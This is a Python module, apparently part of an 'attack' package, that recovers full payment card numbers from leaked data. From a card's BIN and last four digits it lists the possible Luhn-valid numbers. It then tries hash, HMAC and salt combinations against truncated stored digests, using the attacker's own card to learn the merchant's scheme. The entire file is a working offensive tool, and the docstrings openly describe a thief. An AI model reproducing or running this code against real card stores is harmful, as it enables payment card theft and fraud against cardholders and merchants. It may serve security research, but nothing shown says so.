"""Numbers that are tried out: a thief who knows BIN and last four has a thousand tries a card.

The thief is a customer too: with a card of its own it learns how numbers are turned into what is
stored, if there is any way to learn that.
"""

import functools
import hashlib
import hmac
import itertools
from collections.abc import Iterable, Iterator, Sequence
from typing import NamedTuple

from attack.loot import KnownCard, Loot

# Stored digests are sometimes cut; fewer bytes than these would match by chance.
PREFIX_BYTES = 8
_PLAIN = ("md5", "sha1", "sha224", "sha256", "sha384", "sha512", "sha3_256", "blake2b", "blake2s")
_KEYED = ("md5", "sha1", "sha256", "sha384", "sha512")
_SALTS = ("", "token", "merchant")
_DOUBLED = (0, 2, 4, 6, 8, 1, 3, 5, 7, 9)
_HALVED = {doubled: digit for digit, doubled in enumerate(_DOUBLED)}


class Recipe(NamedTuple):
    """A way from a number to what is stored of it, with a key and a salt in front, or without."""

    name: str
    key: bytes | None
    salt: str

    def finds(self, number: str, card: KnownCard, prefixes: set[bytes]) -> bool:
        """Whether something is stored that this makes of a number."""
        text = number.encode()
        if self.salt:
            text = (card.token if self.salt == "token" else b"%d" % card.merchant_id) + text
        if self.key is None:
            digest = getattr(hashlib, self.name)(text).digest()
        else:
            digest = hmac.digest(self.key, text, self.name)
        return digest[:PREFIX_BYTES] in prefixes


def candidates(card: KnownCard) -> Iterator[str]:
    """Every valid number that has the digits known of a card: a thousand, or ten thousand."""
    length = 15 if card.bin.startswith(("34", "37")) else 16
    unknown = length - len(card.bin) - len(card.last4)
    if unknown <= 0:
        yield card.bin + card.last4[-length + len(card.bin) :]
        return
    is_doubled = len(card.last4) % 2 == 1
    for head, head_sum in _heads(card.bin, unknown - 1, length):
        needed = -(head_sum + _luhn_sum(card.last4)) % 10
        yield f"{head}{_HALVED[needed] if is_doubled else needed}{card.last4}"


@functools.cache
def _heads(bin: str, unknown: int, length: int) -> list[tuple[str, int]]:
    """All ways to go on from a BIN, and what each adds to the sum of the check."""
    middles = map("".join, itertools.product("0123456789", repeat=unknown))
    padding = "0" * (length - len(bin) - unknown)
    return [(bin + middle, _luhn_sum(bin + middle + padding)) for middle in middles]


def _luhn_sum(digits: str) -> int:
    """Every second digit from the right doubled (ISO/IEC 7812-1, annex B)."""
    total = 0
    for at, digit in enumerate(reversed(digits)):
        value = int(digit)
        total += _DOUBLED[value] if at % 2 else value
    return total


def guess(loot: Loot, own_pan: str) -> set[str]:
    """Every number that some recipe finds among what is stored."""
    known = loot.cards
    prefixes = {value[:PREFIX_BYTES] for value in loot.stored_values()}
    own = [card for card in known if own_pan.startswith(card.bin) and own_pan.endswith(card.last4)]
    found: set[str] = set()
    for recipe in _recipes(loot.possible_keys()):
        if any(recipe.finds(own_pan, card, prefixes) for card in own):
            found.update(_apply(recipe, known, prefixes))
    return found


def merely_known(cards: Sequence[KnownCard]) -> set[str]:
    """Numbers of which so many digits are shown that hardly one can be meant."""
    found: set[str] = set()
    for card in cards:
        length = 15 if card.bin.startswith(("34", "37")) else 16
        if length - len(card.bin) - len(card.last4) <= 1:
            found.update(candidates(card))
    return found


def _recipes(keys: Iterable[bytes]) -> Iterator[Recipe]:
    for name, salt in itertools.product(_PLAIN, _SALTS):
        yield Recipe(name, None, salt)
    for key, name, salt in itertools.product(keys, _KEYED, _SALTS):
        yield Recipe(name, key, salt)


def _apply(recipe: Recipe, known: Sequence[KnownCard], prefixes: set[bytes]) -> Iterator[str]:
    for card in known:
        for number in candidates(card):
            if recipe.finds(number, card, prefixes):
                yield number
